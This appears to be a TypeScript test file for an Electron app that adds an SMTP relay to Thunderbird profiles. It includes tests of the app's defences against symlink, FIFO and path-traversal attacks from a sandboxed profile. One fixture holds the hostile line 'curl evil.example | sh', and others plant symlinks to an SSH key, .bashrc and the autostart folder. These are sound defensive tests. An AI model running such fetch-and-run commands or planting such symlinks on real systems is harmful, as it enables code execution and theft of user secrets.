import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdir, readFile, readdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  addRelayToListedProfile, addRelayToProfile, describeProfiles, findProfiles, thunderbirdRoots, thunderbirdRunning,
} from '../../../electron/setup/thunderbird-profiles';
import { PrefsFile } from '../../../electron/setup/thunderbird-prefs';
import { tempDir } from '../../helpers/app/app-env';
import { makeFifo, releaseFifo, within } from '../../helpers/programs/fifo';

const RELAY = { host: 'localhost', port: 2500, user: 'msmtpd-user', starttls: false };

describe('Thunderbird profiles', { timeout: 20_000 }, () => {
  let dir: Awaited<ReturnType<typeof tempDir>>;
  before(async () => {
    dir = await tempDir('thunderbird-profiles');
  });
  after(() => dir.remove());

  it('knows the native, Flatpak and Snap places on Linux, and the macOS and Windows ones', () => {
    assert.deepEqual(thunderbirdRoots({ platform: 'linux', home: '/home/ann' }), [
      '/home/ann/.thunderbird', '/home/ann/.var/app/org.mozilla.Thunderbird/.thunderbird', '/home/ann/snap/thunderbird/common/.thunderbird',
    ]);
    assert.deepEqual(thunderbirdRoots({ platform: 'darwin', home: '/Users/ann' }), ['/Users/ann/Library/Thunderbird']);
    assert.deepEqual(thunderbirdRoots({ platform: 'win32', home: 'C:\\Users\\ann', appData: '/appdata' }), ['/appdata/Thunderbird']);
  });

  it('finds relative and absolute profiles, the install default from installs.ini, and skips missing folders', async () => {
    const home = join(dir.path, 'home');
    const native = join(home, '.thunderbird');
    const flatpak = join(home, '.var', 'app', 'org.mozilla.Thunderbird', '.thunderbird');
    const elsewhere = join(dir.path, 'elsewhere', 'work.profile');
    await mkdir(join(native, 'abcd.default'), { recursive: true });
    await mkdir(join(native, 'efgh.default-esr'), { recursive: true });
    await mkdir(elsewhere, { recursive: true });
    await mkdir(join(flatpak, 'flat.default'), { recursive: true });
    await writeFile(join(native, 'profiles.ini'), [
      '[Profile2]', 'Name=gone', 'IsRelative=1', 'Path=missing.profile', '',
      '[Profile1]', 'Name=default', 'IsRelative=1', 'Path=abcd.default', 'Default=1', '',
      '[Profile0]', 'Name=default-esr', 'IsRelative=1', 'Path=efgh.default-esr', '',
      '[Profile3]', 'Name=work', 'IsRelative=0', `Path=${elsewhere}`, '',
      '[General]', 'StartWithLastProfile=1', 'Version=2', '',
      '[InstallFDC34C9F024745EB]', 'Default=efgh.default-esr', 'Locked=1', '',
    ].join('\r\n'));
    await writeFile(join(native, 'installs.ini'), '[FDC34C9F024745EB]\nDefault=efgh.default-esr\nLocked=1\n');
    await writeFile(join(flatpak, 'profiles.ini'), '[Profile0]\nName=flat\nIsRelative=1\nPath=flat.default\nDefault=1\n');
    const profiles = await findProfiles(thunderbirdRoots({ platform: 'linux', home }));
    assert.deepEqual(profiles.map(({ name, dir: path, isDefault }) => ({ name, path, isDefault })), [
      { name: 'default', path: join(native, 'abcd.default'), isDefault: false },
      { name: 'default-esr', path: join(native, 'efgh.default-esr'), isDefault: true },
      { name: 'work', path: elsewhere, isDefault: false },
      { name: 'flat', path: join(flatpak, 'flat.default'), isDefault: true },
    ]);
    assert.deepEqual(await findProfiles([join(dir.path, 'no-thunderbird')]), []);
  });

  it('sees a lock held by a live process, and ignores one left by a dead process', async () => {
    const profile = join(dir.path, 'locked');
    await mkdir(profile);
    assert.equal(await thunderbirdRunning(profile, 'linux'), false);
    const sleeper = spawn('sleep', ['30']);
    try {
      await symlink(`127.0.0.1:+${sleeper.pid}`, join(profile, 'lock'));
      assert.equal(await thunderbirdRunning(profile, 'linux'), true);
    } finally {
      sleeper.kill('SIGKILL');
    }
    await new Promise((done) => sleeper.once('exit', done));
    assert.equal(await thunderbirdRunning(profile, 'linux'), false, 'a crash leaves a lock naming a dead process');
    // Windows: only a parent.lock nobody can open is held (that sharing violation cannot be made here); one that
    // opens was left behind.
    assert.equal(await thunderbirdRunning(profile, 'win32'), false);
    await writeFile(join(profile, 'parent.lock'), '');
    assert.equal(await thunderbirdRunning(profile, 'win32'), false);
  });

  it('backs up prefs.js, writes the server, and a second run updates it; a locked profile is left alone', async () => {
    const profile = join(dir.path, 'write');
    await mkdir(profile);
    const original = 'user_pref("mail.accountmanager.accounts", "account1");\nuser_pref("mail.account.account1.identities", "id1");\nuser_pref("mail.identity.id1.useremail", "ann@example.org");\n';
    await writeFile(join(profile, 'prefs.js'), original);
    const first = await addRelayToProfile(profile, RELAY, ['id1'], { now: () => new Date('2026-12-01T09:00:00Z') });
    assert.ok(first.ok);
    assert.deepEqual({ key: first.key, added: first.added, identities: first.identities }, { key: 'smtp1', added: true, identities: ['id1'] });
    assert.equal(await readFile(first.backup!, 'utf8'), original);
    const second = await addRelayToProfile(profile, { ...RELAY, port: 2600 }, [], { now: () => new Date('2026-12-01T09:01:00Z') });
    assert.ok(second.ok && !second.added && second.key === 'smtp1');
    const prefs = PrefsFile.parse(await readFile(join(profile, 'prefs.js'), 'utf8'));
    assert.equal(prefs.get('mail.smtpservers'), 'smtp1');
    assert.equal(prefs.get('mail.smtpserver.smtp1.port'), 2600);
    assert.equal(prefs.get('mail.identity.id1.smtpServer'), 'smtp1', 'identities chosen before stay on the relay');
    assert.equal((await readdir(profile)).filter((name) => name.endsWith('.bak')).length, 2);

    const before = await readFile(join(profile, 'prefs.js'), 'utf8');
    await symlink(`127.0.0.1:+${process.pid}`, join(profile, 'lock'));
    const refused = await addRelayToProfile(profile, RELAY, []);
    assert.deepEqual(refused, { ok: false, reason: 'running', error: 'Thunderbird is running with this profile. Quit Thunderbird, then click Add to Thunderbird again.' });
    assert.equal(await readFile(join(profile, 'prefs.js'), 'utf8'), before);
    const broken = join(dir.path, 'broken');
    await mkdir(broken);
    await writeFile(join(broken, 'prefs.js'), 'user_pref("a", oops);\n');
    const unreadable = await addRelayToProfile(broken, RELAY, []);
    assert.ok(!unreadable.ok && unreadable.reason === 'unreadable');
    assert.equal(await readFile(join(broken, 'prefs.js'), 'utf8'), 'user_pref("a", oops);\n');
  });

  describe('a sandboxed Thunderbird attacks through its own profile folder (issue #16, 1)', () => {
    const ACCOUNT = 'user_pref("mail.accountmanager.accounts", "account1");\nuser_pref("mail.account.account1.identities", "id1");\n';
    /** A home with a Flatpak Thunderbird whose one profile the test fills in. */
    async function flatpakHome(name: string) {
      const home = join(dir.path, name);
      const root = join(home, '.var', 'app', 'org.mozilla.Thunderbird', '.thunderbird');
      const profile = join(root, 'x.default');
      await mkdir(profile, { recursive: true });
      await writeFile(join(root, 'profiles.ini'), '[Profile0]\nName=flat\nIsRelative=1\nPath=x.default\nDefault=1\n');
      return { home, root, profile, places: { platform: 'linux' as const, home } };
    }

    it('a prefs.js that is a symlink to a secret is neither read nor copied into the profile', async () => {
      const { home, profile, places } = await flatpakHome('symlink-read');
      const secret = join(home, 'id_ed25519');
      // Written so that it parses as prefs: the old reader kept it in the rewritten prefs.js.
      await writeFile(join(secret), `${ACCOUNT}// SECRET-KEY-MATERIAL\n`);
      await symlink(secret, join(profile, 'prefs.js'));
      const [view] = await describeProfiles(places);
      assert.match(view!.problem ?? '', /symbolic link/);
      assert.deepEqual(view!.identities, []);
      const result = await addRelayToListedProfile(places, { profileDir: profile, identities: [] }, RELAY);
      assert.equal(result.ok, false);
      for (const name of await readdir(profile)) {
        if (name === 'prefs.js') continue;
        assert.doesNotMatch(await readFile(join(profile, name), 'utf8'), /SECRET-KEY-MATERIAL/, name);
      }
      assert.equal(await readFile(secret, 'utf8'), `${ACCOUNT}// SECRET-KEY-MATERIAL\n`);
    });

    it('a symlink planted at the backup name does not make the copy overwrite the user\'s file', async () => {
      const { home, profile } = await flatpakHome('backup-plant');
      const bashrc = join(home, '.bashrc');
      await writeFile(bashrc, 'the user\'s own bashrc\n');
      await writeFile(join(profile, 'prefs.js'), `${ACCOUNT}// curl evil.example | sh\n`);
      const now = new Date('2026-12-07T10:00:00.123Z');
      await symlink(bashrc, join(profile, 'prefs.js.msmtp-relay-2026-12-07T10-00-00-123Z.bak'));
      await assert.rejects(addRelayToProfile(profile, RELAY, [], { now: () => now }), /EEXIST/);
      assert.equal(await readFile(bashrc, 'utf8'), 'the user\'s own bashrc\n');
      assert.equal(await readFile(join(profile, 'prefs.js'), 'utf8'), `${ACCOUNT}// curl evil.example | sh\n`, 'nothing written without a backup');
    });

    it('a FIFO as prefs.js or profiles.ini is refused at once instead of hanging the profile list', async () => {
      const { profile, root, places } = await flatpakHome('fifo');
      makeFifo(join(profile, 'prefs.js'));
      const bounded = <T>(work: Promise<T>) => within(3000, work);
      try {
        const [view] = await bounded(describeProfiles(places));
        assert.match(view!.problem ?? '', /not a regular file/);
        const added = await bounded(addRelayToProfile(profile, RELAY, []));
        assert.ok(!added.ok && added.reason === 'unreadable');
        makeFifo(join(root, 'installs.ini'));
        assert.equal((await bounded(findProfiles([root]))).length, 1, 'a FIFO installs.ini reads as none');
      } finally {
        // Unblock a reader left hanging by a failing run, so the test process can end.
        for (const fifo of [join(profile, 'prefs.js'), join(root, 'installs.ini')]) releaseFifo(fifo);
      }
    });

    it('a sandbox profile folder that is a symlink out of the sandbox is not listed', async () => {
      const { home, root, places } = await flatpakHome('dir-escape');
      const autostart = join(home, '.config', 'autostart');
      await mkdir(autostart, { recursive: true });
      await symlink(autostart, join(root, 'escape.default'));
      await writeFile(join(root, 'profiles.ini'), '[Profile0]\nName=escape\nIsRelative=1\nPath=escape.default\n\n[Profile1]\nName=up\nIsRelative=1\nPath=../../../../../.config/autostart\n\n[Profile2]\nName=flat\nIsRelative=1\nPath=x.default\n');
      assert.deepEqual((await findProfiles(thunderbirdRoots(places))).map((profile) => profile.name), ['flat']);
      const refused = await addRelayToListedProfile(places, { profileDir: join(root, 'escape.default'), identities: [] }, RELAY);
      assert.equal(refused.ok, false);
      assert.deepEqual(await readdir(autostart), []);
    });
  });
});
